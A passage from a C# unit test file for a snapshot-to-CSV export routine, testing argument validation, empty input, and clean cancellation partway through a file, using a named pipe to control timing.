            Assert.Throws<ArgumentException>(() => { _ = SnapshotCsv.WriteAsync(snapshot.Path, new[] { department, department }, CancellationToken.None); });
            Assert.Throws<ArgumentNullException>(() => { _ = SnapshotCsv.WriteAsync(snapshot.Path, null!, CancellationToken.None); });
        }

        [Fact]
        public async Task Nothing_at_all_writes_nothing()
        {
            IReadOnlyList<SnapshotFile> files = await SnapshotCsv.WriteAsync(snapshot.Path, Array.Empty<SnapshotExport>(), CancellationToken.None);

            Assert.Empty(files);
            Assert.Empty(snapshot.FilesInFolder());
        }

        [Fact]
        [System.Runtime.Versioning.UnsupportedOSPlatform("windows")]
        public async Task Cancelling_mid_file_stops_at_the_next_record_and_leaves_no_csv_and_no_temporary_file()
        {
            if (OperatingSystem.IsWindows())
            {
                return; // a named pipe stands in for a slow block file
            }

            // The second block file is a FIFO the test feeds by hand, so the cancellation lands mid-file for certain.
            SnapshotFile first = snapshot.Block("user.block0000.json", new { userlist = new[] { Obj(("userid", "a")) } });
            string fifo = Path.Combine(snapshot.Path, "user.block0001.json");
            using (var mkfifo = System.Diagnostics.Process.Start("mkfifo", fifo))
            {
                await mkfifo.WaitForExitAsync();
                Assert.Equal(0, mkfifo.ExitCode);
            }

            using var cancel = new CancellationTokenSource();
            Task<IReadOnlyList<SnapshotFile>> writing = SnapshotCsv.WriteAsync(
                snapshot.Path,
                new[] { ExportOf(ExportKind.User, first, new SnapshotFile("user.block0001.json", 0, "", 0)) },
                cancel.Token);
            var feed = new FileStream(fifo, FileMode.Open, FileAccess.Write);
            try
            {
                feed.Write(Encoding.UTF8.GetBytes("{\"userlist\":[{\"userid\":\"b\"},"));
                feed.Flush();
                await cancel.CancelAsync();
                feed.Write(Encoding.UTF8.GetBytes("{\"userid\":\"c\"}]}"));
                feed.Dispose();
            }
            catch (IOException)
            {
                // The reader stopped at the cancellation and closed its end first (a broken pipe): that is the point.
            }

            await Assert.ThrowsAnyAsync<OperationCanceledException>(() => writing);
            Assert.True(writing.IsCanceled);
            Assert.Equal(new[] { "user.block0000.json", "user.block0001.json" }, snapshot.FilesInFolder());
        }
    }
}
